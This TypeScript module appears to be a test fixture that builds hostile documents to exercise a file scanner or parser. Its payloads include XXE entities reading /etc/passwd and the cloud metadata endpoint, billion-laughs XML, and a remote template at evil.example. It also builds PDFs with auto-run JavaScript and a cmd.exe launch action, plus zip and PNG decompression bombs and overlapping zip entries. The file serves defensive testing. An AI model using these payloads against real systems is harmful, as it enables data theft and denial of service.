import { deflateSync } from "node:zlib";
import yazl from "yazl";

/** Files as somebody who means harm would send them, each made here. */

export type Part = { name: string; text?: string; bytes?: Buffer; mode?: number };

export async function zipOf(parts: readonly Part[]): Promise<Buffer> {
  const zip = new yazl.ZipFile();
  const at = new Date("2026-01-01T00:00:00Z");
  for (const { name, text, bytes, mode } of parts) {
    zip.addBuffer(bytes ?? Buffer.from(text ?? ""), name, { mtime: at, ...(mode ? { mode } : {}) });
  }
  zip.end();
  const pieces: Buffer[] = [];
  for await (const piece of zip.outputStream) pieces.push(piece as Buffer);
  return Buffer.concat(pieces);
}

/** yazl refuses unsafe names, as it should: a name of the same length is written over. */
export async function zipWithName(name: string): Promise<Buffer> {
  const stand = "x".repeat(name.length);
  const bytes = await zipOf([{ name: stand, text: "harmless" }]);
  return Buffer.from(bytes.toString("latin1").replaceAll(stand, name), "latin1");
}

const CONTENT_TYPES = (main: string) =>
  `<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/><Override PartName="/word/document.xml" ContentType="${main}"/></Types>`;
export const WORD_MAIN = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml";
const SHEET_MAIN = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml";
const MACRO_MAIN = "application/vnd.ms-word.document.macroEnabled.main+xml";
const RELS = `<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="word/document.xml"/></Relationships>`;
export const wordBody = (text: string): string =>
  `<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body><w:p><w:r><w:t>${text}</w:t></w:r></w:p></w:body></w:document>`;

export const docx = (body: string, more: readonly Part[] = [], main = WORD_MAIN): Promise<Buffer> =>
  zipOf([
    { name: "[Content_Types].xml", text: CONTENT_TYPES(main) },
    { name: "_rels/.rels", text: RELS },
    { name: "word/document.xml", text: body },
    ...more,
  ]);

export const docxWithEntities = (): Promise<Buffer> =>
  docx(`<?xml version="1.0"?><!DOCTYPE d [<!ENTITY x SYSTEM "file:///etc/passwd">]>${wordBody("&x;")}`);
/** "Billion laughs", in UTF-16, which a search for ASCII does not see. */
export const docxWithWideEntities = (): Promise<Buffer> =>
  docx("", [
    {
      name: "word/styles.xml",
      bytes: Buffer.from(
        `\ufeff<?xml version="1.0" encoding="UTF-16"?><!DOCTYPE l [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;">]><l>&b;</l>`,
        "utf16le",
      ),
    },
  ]);
export const xlsxWithEntities = (): Promise<Buffer> =>
  zipOf([
    { name: "[Content_Types].xml", text: CONTENT_TYPES(SHEET_MAIN).replace("/word/document.xml", "/xl/workbook.xml") },
    { name: "_rels/.rels", text: RELS.replace("word/document.xml", "xl/workbook.xml") },
    {
      name: "xl/workbook.xml",
      text: `<?xml version="1.0"?><!DOCTYPE w [<!ENTITY x SYSTEM "http://169.254.169.254/latest/meta-data">]><workbook>&x;</workbook>`,
    },
  ]);
export const docmWithMacro = (): Promise<Buffer> =>
  docx(wordBody("x"), [{ name: "word/vbaProject.bin", text: "Sub AutoOpen()" }], MACRO_MAIN);
export const docxWithTemplateOutside = (): Promise<Buffer> =>
  docx(wordBody("x"), [
    {
      name: "word/_rels/settings.xml.rels",
      text: `<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="http://evil.example/t.dotm" TargetMode="External"/></Relationships>`,
    },
  ]);

/** A small PDF with these objects besides its page. */
export function pdf(text = "Hello", objects: readonly string[] = [], catalog = ""): Buffer {
  const content = `BT /F1 18 Tf 72 720 Td (${text}) Tj ET`;
  const all = [
    `<< /Type /Catalog /Pages 2 0 R ${catalog} >>`,
    "<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
    "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R /Resources << /Font << /F1 5 0 R >> >> >>",
    `<< /Length ${content.length} >>\nstream\n${content}\nendstream`,
    "<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
    ...objects,
  ];
  let body = "%PDF-1.7\n";
  const offsets = all.map((object, at) => {
    const offset = Buffer.byteLength(body, "latin1");
    body += `${at + 1} 0 obj\n${object}\nendobj\n`;
    return offset;
  });
  const start = Buffer.byteLength(body, "latin1");
  const table = offsets.map((offset) => `${String(offset).padStart(10, "0")} 00000 n \n`).join("");
  body += `xref\n0 ${all.length + 1}\n0000000000 65535 f \n${table}trailer\n<< /Size ${all.length + 1} /Root 1 0 R >>\nstartxref\n${start}\n%%EOF\n`;
  return Buffer.from(body, "latin1");
}

export const pdfWithScript = (): Buffer =>
  pdf("x", ["<< /S /JavaScript /JS (app.alert\\(1\\)) >>"], "/OpenAction 6 0 R");
export const pdfWithHiddenScript = (): Buffer =>
  pdf("x", ["<< /S /J#61vaScr#69pt /J#53 (app.alert\\(1\\)) >>"], "/OpenAction 6 0 R");
export const pdfWithLaunch = (): Buffer => pdf("x", ["<< /S /Launch /F (cmd.exe) >>"], "/OpenAction 6 0 R");
function packedScript(type: string, more = ""): Buffer {
  const packed = deflateSync(Buffer.from("7 0 << /S /JavaScript /JS (app.alert\\(1\\)) >>")).toString("latin1");
  const dictionary = `<< /Type /${type} /N 1 /First 4 /Filter /FlateDecode ${more} /Length ${packed.length} >>`;
  return pdf("x", [`${dictionary}\nstream\n${packed}\nendstream`]);
}
export const pdfWithPackedScript = (): Buffer => packedScript("ObjStm");
export const pdfWithHiddenPackedScript = (): Buffer => packedScript("Obj#53tm");
/** Differences of rows instead of rows: unpacked, nothing of it can be read without undoing them. */
export const pdfWithPredictor = (): Buffer => packedScript("ObjStm", "/DecodeParms << /Predictor 12 >>");
export const pdfWithAttachment = (): Buffer =>
  pdf("x", ["<< /Type /Filespec /EF << >> >>"], "/Names << /EmbeddedFiles << /Names [] >> >>");

function chunk(type: string, data: Buffer): Buffer {
  const length = Buffer.alloc(4);
  length.writeUInt32BE(data.length);
  const body = Buffer.concat([Buffer.from(type), data]);
  let crc = 0xffffffff;
  for (const byte of body) {
    crc ^= byte;
    for (let bit = 0; bit < 8; bit++) crc = (crc >>> 1) ^ (crc & 1 ? 0xedb88320 : 0);
  }
  const check = Buffer.alloc(4);
  check.writeUInt32BE((crc ^ 0xffffffff) >>> 0);
  return Buffer.concat([length, body, check]);
}

/** A PNG that says it is this large; its few hundred bytes would unpack to all of it. */
export function png(width: number, height: number): Buffer {
  const header = Buffer.alloc(13);
  header.writeUInt32BE(width, 0);
  header.writeUInt32BE(height, 4);
  header.set([8, 0, 0, 0, 0], 8);
  const line = Buffer.alloc(1 + width);
  const pixels = deflateSync(Buffer.concat(Array.from({ length: Math.min(height, 64) }, () => line)));
  const sign = Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]);
  return Buffer.concat([sign, chunk("IHDR", header), chunk("IDAT", pixels), chunk("IEND", Buffer.alloc(0))]);
}

/** Zeros pack a thousandfold. */
export const zipBomb = (): Promise<Buffer> => zipOf([{ name: "zeros.bin", bytes: Buffer.alloc(21_000_000) }]);

/** Two entries of the directory that claim the same bytes. */
export async function overlappingZip(): Promise<Buffer> {
  const one = await zipOf([
    { name: "aaaa.bin", bytes: Buffer.from(Array.from({ length: 5_000 }, (_, at) => (at * 7919) % 251)) },
  ]);
  const start = one.indexOf(Buffer.from("PK\u0001\u0002"));
  const end = one.indexOf(Buffer.from("PK\u0005\u0006"));
  const record = one.subarray(start, end);
  const copies = 40;
  const tail = Buffer.from(one.subarray(end));
  tail.writeUInt16LE(copies, 8);
  tail.writeUInt16LE(copies, 10);
  tail.writeUInt32LE(record.length * copies, 12);
  tail.writeUInt32LE(start, 16);
  return Buffer.concat([one.subarray(0, start), ...Array.from({ length: copies }, () => record), tail]);
}
